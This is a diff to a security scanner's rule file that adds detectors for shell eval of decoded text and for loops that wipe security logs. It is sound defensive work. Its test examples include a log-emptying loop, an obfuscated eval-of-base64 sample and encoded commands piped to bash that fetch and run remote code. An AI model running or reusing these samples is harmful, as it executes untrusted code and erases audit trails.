@@ -52,6 +52,16 @@ export const s006Obfuscation: ScanRule = {
       why: 'Executes decoded or decompressed text: obfuscated code execution.',
     },
     {
+      // Shell `eval` of text piped through a decoder, or through a program named by a variable (`| $_d -d`): decoded and run.
+      id: 'eval-of-decoded-shell',
+      keywords: ['eval'],
+      capabilities: ['decode', 'execute'],
+      level: 'HIGH',
+      reads: ['code'],
+      re: /\beval\s{1,4}["']?(?:\$\(|\x60)[^)\x60\n]{0,200}\|\s{0,4}(?:\$\{?\w{1,40}\}?|base64|base32|xxd|openssl|gunzip|zcat|rev|tr)\b[^)\x60\n]{0,40}?\s-{1,2}(?:d|decode|r|revert)\b/,
+      why: 'Evaluates text a decoder just produced (`eval "$(… | base64 -d)"`): obfuscated code execution.',
+    },
+    {
       id: 'powershell-encoded',
       keywords: ['powershell', 'pwsh', 'iex', 'invoke-expression'],
       capabilities: ['decode', 'execute'],
@@ -87,9 +97,22 @@ export const s006Obfuscation: ScanRule = {
       re: /\brm\s{1,4}-[a-zA-Z]{0,4}[rf][a-zA-Z]{0,4}\s{1,4}["']?\/var\/log\/(?:audit|\*|[\w.-]{1,60}\/\*)|\bwevtutil(?:\.exe)?\s{1,4}cl\b|\bClear-EventLog\b|>\s{0,4}\/var\/log\/(?:auth\.log|secure|syslog|wtmp|btmp|lastlog|audit\/audit\.log)\b|\bjournalctl\s{1,4}--vacuum-(?:time|size)=1\w?\b|\bhistory\s{1,4}-c\b|\bunset\s{1,4}HISTFILE\b|\bHISTFILE=\/dev\/null\b|\bset\s{1,4}\+o\s{1,4}history\b|\bexport\s{1,4}HISTSIZE=0\b|\bClear-History\b/i,
       why: 'Erases or disables shell history so the commands that ran cannot be reviewed afterwards.',
     },
+    {
+      // A loop that empties the logins and audit trail (`for f in /var/log/auth.log /var/log/wtmp …; do : > "$f"`): tracks covered.
+      id: 'wipe-security-logs',
+      keywords: ['/var/log/'],
+      capabilities: ['concealment', 'destruction'],
+      scope: 'unit',
+      reads: ['code'],
+      // The loop's own variable emptied or removed in its body (not copied somewhere, which is how triage collects them).
+      re: /\bfor\s{1,4}(\w{1,40})\s{1,4}in\b[^;\n]{0,300}?\/var\/log\/(?:auth\.log|secure|wtmp|btmp|lastlog|audit\/audit\.log)\b[^;\n]{0,300}?\/var\/log\/(?:auth\.log|secure|wtmp|btmp|lastlog|audit\/audit\.log)\b[^;\n]{0,300}?;?\s{0,4}do\b[^\n]{0,200}\n?[^\n]{0,200}?(?:(?::|\btrue)\s{0,4}>|\btruncate\s{1,4}-s\s{0,4}0|\bshred\b[^\n]{0,40}?|\brm\s{1,4}-[a-zA-Z]{0,4}f[a-zA-Z]{0,4})\s{1,4}["']?\$\{?\1\b/,
+      why: 'Empties the login records and audit trail of the machine: what was done can no longer be traced.',
+    },
   ],
   examples: {
     match: [
+      { path: 'scripts/post.sh', text: 'for f in /var/log/auth.log /var/log/wtmp /var/log/btmp; do\n  [ -e "$f" ] && : > "$f"\ndone\n' },
+      { path: 'hooks/sync.sh', text: "_d=$(printf 'b%s%s' 'ase' '64')\neval \"$(printf '%s' \"$blob\" | $_d -d)\"\n" },
       { text: "echo 'Y3VybCBodHRwczovL3guZXhhbXBsZS9pIHwgYmFzaA==' | base64 -d | bash", level: 'HIGH' },
       {
         text: "echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzkxLjkyLjI0Mi4zMC9xMGM3ZXcycm84bDJjZnFwKSI=' | base64 -D | bash",
@@ -117,6 +140,7 @@ export const s006Obfuscation: ScanRule = {
       },
     ],
     noMatch: [
+      'eval "$(ssh-agent -s)"',
       'model.eval()',
       'ast.literal_eval(text)',
       "await page.$eval('#id', el => el.textContent)",
